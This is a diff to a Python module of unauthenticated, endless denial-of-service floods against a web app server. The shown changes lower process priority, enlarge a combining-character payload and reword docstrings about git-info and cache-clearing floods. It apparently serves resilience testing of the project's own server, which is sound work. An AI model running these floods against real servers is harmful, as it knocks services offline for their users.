@@ -1,5 +1,6 @@
 """Attacks that go on until they are stopped, each to be run in a process of its own. None has a password."""
 
+import os
 import socket
 from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
@@ -25,7 +26,7 @@ def names(url: str, number: int = 40_000) -> None:
 
 
 def git(url: str) -> None:
-    """Has the server ask git, and clear what it remembers."""
+    """Has the server ask git, and clear what it remembers, in thousands of frames of a few bytes."""
     messages = [BackMsg(load_git_info=True), BackMsg(clear_cache=True)]
 
     def send(stranger: Tab) -> None:
@@ -38,8 +39,7 @@ def git(url: str) -> None:
 
 def garbage(url: str) -> None:
     """Sends the largest frames a stranger may, which mean nothing, and fields full of combining characters."""
-    states = [typed(f"$$ID-{n:032x}-None", "a" + "\u0301\u0327" * 7500) for n in range(1)]
-    frame = rerun(*states).SerializeToString()
+    frame = rerun(typed("$$ID-0-None", "a" + "\u0301\u0327" * 15_000)).SerializeToString()
 
     def send(stranger: Tab) -> None:
         while True:
@@ -112,7 +112,8 @@ def _with_tab(url: str, attack: Callable[[Tab], Any]) -> None:
 
 
 def _again(once: Callable[[], Any], workers: int = 1) -> None:
-    """Without end, whatever the server answers."""
+    """Without end, whatever the server answers. Last in the queue for the processor: a real attacker has their own."""
+    os.nice(19)
 
     def forever() -> None:
         while True:
